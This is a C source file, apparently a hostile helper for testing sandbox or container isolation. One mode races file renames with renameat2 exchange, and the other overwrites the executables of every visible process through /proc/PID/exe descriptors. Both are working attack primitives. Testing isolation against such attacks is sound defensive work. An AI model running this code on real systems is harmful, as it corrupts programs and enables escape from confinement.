/*
 * A hostile program. `swap A B`: exchanges the two names until it is killed. `overwrite`: opens the
 * executable of every process that it can see and writes to it, until it is killed; each write that
 * works is a line "written PID".
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2

static void swap(const char *a, const char *b) {
  while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE) == 0)
    continue;
}

/* Through a descriptor that outlives the program's execution of something else. */
static void overwrite(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int exe = open(path, O_PATH | O_CLOEXEC);
  if (exe < 0)
    return;
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  for (int i = 0; i < 2000; i++) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && write(fd, "#!/bin/evil\n", 12) > 0)
      printf("written %d\n", pid);
    if (fd >= 0)
      close(fd);
  }
  close(exe);
}

static void overwrite_all(void) {
  pid_t self = getpid();
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));)
    if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != self)
      overwrite(atoi(entry->d_name));
  if (proc)
    closedir(proc);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 4 && strcmp(argv[1], "swap") == 0)
    swap(argv[2], argv[3]);
  else if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
    for (puts("ready");;)
      overwrite_all();
  return 1;
}
